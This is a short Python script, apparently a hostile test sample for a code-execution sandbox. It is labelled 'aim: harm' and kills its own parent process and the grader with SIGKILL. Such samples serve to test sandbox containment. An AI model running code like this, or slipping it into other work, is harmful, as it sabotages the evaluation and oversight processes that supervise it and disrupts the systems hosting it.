# Kills the process that started it, and the grader.
# aim: harm
# %% first
import os
import signal

for pid in (int("@PARENT@"), os.getppid()):
    try:
        if pid > 1:
            os.kill(pid, signal.SIGKILL)
            print("killed", pid)
    except OSError as error:
        print(pid, error)
